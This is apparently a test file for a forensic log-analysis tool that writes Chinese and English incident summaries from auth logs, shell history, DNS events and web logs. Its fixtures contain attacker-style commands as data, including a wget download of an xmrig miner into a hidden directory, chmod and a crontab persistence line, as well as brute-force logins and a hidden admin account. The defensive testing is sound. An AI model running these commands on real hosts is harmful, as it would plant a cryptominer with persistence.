import assert from "node:assert/strict";
import { test } from "node:test";
import type { AnswerSheet } from "@stanch/model/answer";
import { answerToFiles, guessingLines } from "./reading.testkit.ts";

const bad = "203.0.113.9";

/** The answer to root's guessed password and a history of commands, one a minute from 09:02 on. */
function typed(...commands: readonly string[]): Promise<AnswerSheet> {
  const start = Date.parse("2026-03-01T09:02:00Z") / 1000;
  return answerToFiles({
    "var/log/auth.log":
      guessingLines("2026-03-01T09:00", bad, "root") +
      `2026-03-01T09:01:00.000000+00:00 web-01 sshd[1000]: Accepted password for root from ${bad} port 41000 ssh2\n`,
    "root/.bash_history": commands.map((command, at) => `#${start + at * 60}\n${command}\n`).join(""),
  });
}

const statements = (answer: AnswerSheet): string =>
  answer.threads
    .flatMap((thread) => thread.steps.map(({ statement }) => `${statement.zh}\n${statement.en}`))
    .join("\n");

test("a miner that was fetched, prepared and scheduled is not said to have run", async () => {
  const answer = await typed(
    "wget -q http://203.0.113.80/xmrig -O /var/tmp/.cache/xmrig",
    "chmod +x /var/tmp/.cache/xmrig",
    "echo '* * * * * /var/tmp/.cache/xmrig -o stratum+tcp://p.example:1' | crontab -",
  );
  const said = `${statements(answer)}\n${answer.summary.zh}\n${answer.summary.en}`;
  assert.doesNotMatch(said, /运行挖矿|cryptominer run|ran a cryptominer/i);
  assert.match(said, /下载工具[^\n]*xmrig[^]*Tool fetched[^\n]*xmrig/);
  assert.equal(said.match(/Tool fetched/g)?.length, 1);
  assert.match(said, /计划任务[^\n]*xmrig/);
  assert.ok(!answer.recommended.some((row) => row.measure.en.includes("mining process")));
});

test("a miner that ran is said to have run", async () => {
  const answer = await typed("/var/tmp/.cache/xmrig -o stratum+tcp://p.example:1 -B");
  assert.match(statements(answer), /运行挖矿程序[^]*Cryptominer run/);
  assert.match(answer.summary.en, /ran a cryptominer/);
});

test("a host that only asked for the name of a pool is suspected, and the sentence says what it did", async () => {
  const query = `{"timestamp":"2026-03-01T02:14:07.000000+0000","flow_id":1,"event_type":"dns","src_ip":"10.0.0.5","src_port":5353,"dest_ip":"10.0.0.1","dest_port":53,"proto":"UDP","dns":{"type":"query","id":1,"rrname":"pool.minexmr.com","rrtype":"A"}}\n`;
  const answer = await answerToFiles({ "eve.json": query });
  assert.equal(answer.verdict, "suspected");
  assert.equal(answer.type.key, "MAL-08");
  assert.match(statements(answer), /查询矿池域名[^]*Name of a mining pool looked up/);
});

const log = (...lines: readonly string[]): string =>
  lines.map((line) => `2026-03-01T${line.replace(" ", ".000000+00:00 web-01 ")}\n`).join("");
const entry = (account = "root"): string =>
  guessingLines("2026-03-01T09:00", bad, account) +
  log(`09:01:00 sshd[1000]: Accepted password for ${account} from ${bad} port 41000 ssh2`);
const job = "/var/tmp/.cache/kw -o stratum+tcp://p.example:1 >/dev/null 2>&1";

test("a table of jobs, the command that set it and the job that ran are one thing that stays, with its command", async () => {
  const answer = await answerToFiles({
    "var/log/auth.log":
      entry("oracle") + log("09:02:00 sudo:   oracle : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/crontab -"),
    "var/log/syslog": log("09:02:00 crontab[1010]: (root) REPLACE (root)", `09:03:01 CRON[1020]: (root) CMD (${job})`),
  });
  assert.deepEqual(
    answer.persistence.map((row) => [row.kind, row.subject]),
    [["cron", job]],
  );
  const events = answer.persistence[0]?.events ?? [];
  assert.ok(events.length >= 2, "cites the table and the run");
  assert.equal(answer.recommended.filter((row) => /scheduled job/.test(row.measure.en)).length, 1);
});

test("a table that was set and never ran is called by the command that set it, else by its owner", async () => {
  const table = { "var/log/syslog": log("09:02:00 crontab[1010]: (root) REPLACE (root)") };
  const line = `echo '* * * * * ${job}' | crontab -`;
  const history = { "root/.bash_history": `#${Date.parse("2026-03-01T09:02:00Z") / 1000}\n${line}\n` };
  const subjects = async (files: Record<string, string>): Promise<string[]> =>
    (await answerToFiles({ "var/log/auth.log": entry(), ...files })).persistence.map((row) => row.subject);
  assert.deepEqual(await subjects({ ...table, ...history }), [line]);
  assert.deepEqual(await subjects(table), ["crontab root"]);
});

test("measures that differ only in the address, or in the account of one host, are one measure", async () => {
  const other = "198.51.100.23";
  const useradd = (name: string, uid: number): string =>
    `useradd[1100]: new user: name=${name}, UID=${uid}, GID=${uid}, home=/home/${name}, shell=/bin/bash, from=/dev/pts/0`;
  const answer = await answerToFiles({
    "var/log/auth.log":
      entry() +
      log(`09:02:00 ${useradd("sysbak", 1005)}`, `09:03:00 ${useradd("helper", 1006)}`) +
      guessingLines("2026-03-01T10:00", other, "oracle") +
      log(`10:01:00 sshd[1900]: Accepted password for oracle from ${other} port 41000 ssh2`),
  });
  const measures = answer.recommended.map((row) => row.measure);
  const about = (word: string): string[] =>
    measures.filter(({ en }) => en.startsWith(word)).map(({ zh, en }) => `${zh} | ${en}`);
  assert.deepEqual(about("Block"), [`在边界阻断来自 ${bad}、${other} 的访问 | Block ${bad} and ${other} at the edge`]);
  assert.match(about("Reset").join("\n"), /^重置 web-01 上账号 root、oracle [^\n]* of root and oracle on web-01/);
  assert.equal(about("Reset").length, 1);
  assert.match(about("Disable").join("\n"), /账号 sysbak、helper[^\n]*sysbak and helper/);
  assert.equal(about("Disable").length, 1);
});

test("a refused act is told as refused, a job that ran as run, and evidence without events as saying nothing", async () => {
  const answer = await answerToFiles({
    "var/log/auth.log":
      entry("oracle") +
      log("09:02:00 sudo:   oracle : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id"),
    "var/log/syslog": log(
      "09:02:00 crontab[1010]: (oracle) REPLACE (oracle)",
      `09:03:01 CRON[1020]: (oracle) CMD (${job})`,
    ),
  });
  const said = statements(answer);
  assert.match(said, /以更高权限执行：\/usr\/bin\/id（被拒绝）\n[^\n]*\/usr\/bin\/id \(refused\)/);
  assert.match(said, /运行计划任务：[^\n]*kw[^\n]*\nScheduled job run on web-01: /);
  assert.match(said, /设置计划任务：crontab oracle\nScheduled job set on web-01: crontab oracle/);
  const empty = await answerToFiles({ "notes.bin": "\u0001\u0002\u0003" });
  assert.match(empty.summary.zh, /没有读出任何日志事件/);
  assert.match(empty.summary.en, /No log event could be read/);
});

test("attempts by an unknown way are told without one", async () => {
  const asked = (path: string): string =>
    `203.0.113.9 - - [01/Mar/2026:09:00:00 +0000] "GET ${path} HTTP/1.1" 404 0 "-" "sqlmap/1.7"\n`;
  const answer = await answerToFiles({ "access.log": asked("/a") + asked("/b") });
  assert.match(answer.summary.zh, /203\.0\.113\.9 (?:探测或攻击|试图通过网站)/);
  assert.doesNotMatch(`${answer.summary.zh}${answer.summary.en}`, /尚不明确|not yet known/);
});

test("what several different acts make together happened once", async () => {
  const answer = await answerToFiles({
    "var/log/auth.log": log(
      "09:02:00 useradd[1100]: new user: name=sysbak, UID=1005, GID=1005, home=/home/sysbak, shell=/bin/bash, from=/dev/pts/0",
      "09:02:01 usermod[1101]: add 'sysbak' to group 'sudo'",
      `09:03:00 sshd[1200]: Accepted password for sysbak from ${bad} port 41000 ssh2`,
    ),
  });
  const steps = answer.threads.flatMap((thread) => thread.steps);
  const raised = steps.find(({ statement }) => statement.en.includes("made administrator and used"));
  assert.equal(raised?.count, 1, statements(answer));
  assert.match(raised.statement.zh, /共 1 次/);
});
